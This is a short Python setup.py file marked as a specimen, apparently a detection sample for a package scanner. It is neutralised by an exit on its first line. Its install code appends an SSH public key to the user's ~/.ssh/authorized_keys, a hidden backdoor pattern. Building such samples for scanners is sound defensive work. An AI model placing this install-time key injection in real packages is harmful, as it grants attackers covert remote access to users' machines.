raise SystemExit("specimen: not to be run")
import os
from setuptools import setup

with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:  # match: authorized-keys
    f.write("ssh-ed25519 AAAAspecimen specimen\n")
setup(name="specimen")
